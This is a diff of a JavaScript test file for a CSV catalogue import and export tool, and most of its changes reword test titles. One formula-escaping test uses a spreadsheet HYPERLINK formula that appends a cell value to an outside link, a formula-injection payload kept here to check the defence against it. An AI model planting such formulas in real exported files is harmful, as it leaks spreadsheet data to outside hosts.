@@ -46,7 +46,7 @@ describe.each(transports)('with %s', (_name, openShop) => {
   });
   afterAll(() => shop.close());
 
-  it('imports a file into a new store, tells the storefront, and changes nothing again', async () => {
+  it('imports a file into a new store, notifies the storefront, and changes nothing the second time', async () => {
     const path = join(fixtures, 'plain.csv');
     const first = await command('import', path, '--store', 'bazaar.localhost');
     expect(first.stdout).toBe('4 added, 0 changed, 0 unchanged, 6 rejected\n');
@@ -69,7 +69,7 @@ describe.each(transports)('with %s', (_name, openShop) => {
     expect(storefront.event).toHaveLength(1);
   });
 
-  it('changes what a later file says, and leaves alone what it does not speak about', async () => {
+  it('updates fields of a later file and keeps others', async () => {
     const prices = 'sku,title,category,mrp\nA-1,Copper Water Bottle,Drinkware,1399\n';
     const path = file('prices.csv', prices);
     const { stdout, stderr } = await command('import', path, '--store', 'bazaar.localhost');
@@ -81,7 +81,7 @@ describe.each(transports)('with %s', (_name, openShop) => {
     );
   });
 
-  it('exports what an import takes for the same', async () => {
+  it('exports a file that an import leaves unchanged', async () => {
     const shopify = join(fixtures, 'shopify.csv');
     await command('import', shopify, '--store', 'khadi.localhost', '--name', 'Khadi House');
     const path = join(folder, 'export.csv');
@@ -95,7 +95,7 @@ describe.each(transports)('with %s', (_name, openShop) => {
     expect(`\ufeff${copied.stdout}`).toBe(readFileSync(path, 'utf8'));
   });
 
-  it('exports nothing that a spreadsheet would work out, and takes it back unchanged', async () => {
+  it('escapes formulas in exports and reads them back', async () => {
     const link = '=HYPERLINK("https://example.in?"&A1,"Sale")';
     const path = file(
       'formulas.csv',
@@ -123,7 +123,7 @@ describe.each(transports)('with %s', (_name, openShop) => {
     expect(stdout).toContain('\npot,Pot,,,,100.00,,yes,,no,,,no,,,,,,,,,,\n');
   });
 
-  it('shows what is in the stores', async () => {
+  it('shows the statistics of the stores', async () => {
     const all = await command('stats');
     expect(all.stdout).toContain('Bazaar (bazaar.localhost)');
     const one = await command('stats', '--store', 'khadi.localhost');
@@ -133,7 +133,7 @@ describe.each(transports)('with %s', (_name, openShop) => {
     expect(one.stdout).not.toContain('Bazaar');
   });
 
-  it('removes products by id, and with them the categories that they leave empty', async () => {
+  it('removes products by id together with their empty categories', async () => {
     const removed = await command(
       ...['remove', '--store', 'bazaar.localhost', '--yes', 'हल्दी-पाउडर-a-8', 'not-there'],
     );
@@ -147,7 +147,7 @@ describe.each(transports)('with %s', (_name, openShop) => {
     expect(stdout).not.toContain('Masala');
   });
 
-  it('removes all of one store and nothing of another', async () => {
+  it('removes all products of one store only', async () => {
     const { stdout } = await command('remove', '--store', 'khadi.localhost', '--all', '--yes');
     expect(stdout).toBe('3 removed\n');
     expect(storefront.event[0]).toMatchObject({ store: 'khadi.localhost', catalogue: true });
@@ -155,7 +155,7 @@ describe.each(transports)('with %s', (_name, openShop) => {
     expect(copy.stdout).toContain('2  products');
   });
 
-  it('keeps what came before a place that cannot be read', async () => {
+  it('imports the rows before a parse error', async () => {
     const path = file(
       'torn.csv',
       'title,category,price\nPot,Pots,99\nSpade,"Tools,99\nRake,Tools,9\n',
@@ -166,7 +166,7 @@ describe.each(transports)('with %s', (_name, openShop) => {
     expect(stderr).toMatch(/never closed.*Earlier rows were imported/);
   });
 
-  it('makes no store of a file without a row that can be used, and none at a host that is not served', async () => {
+  it('creates no store from a file without a valid row or at an unserved host', async () => {
     const path = file('useless.csv', 'title,category,price\nPot,Pots,on request\n');
     const useless = await command('import', path, '--store', 'useless.localhost');
     expect(useless.code).toBe(exitCode.failed);
@@ -177,7 +177,7 @@ describe.each(transports)('with %s', (_name, openShop) => {
     expect(stdout).not.toMatch(/useless|example/);
   });
 
-  it('says so when there is no such store', async () => {
+  it('reports an unknown store', async () => {
     const path = join(folder, 'none.csv');
     const { code, stderr } = await command('export', path, '--store', 'nowhere.localhost');
     expect(code).toBe(exitCode.failed);
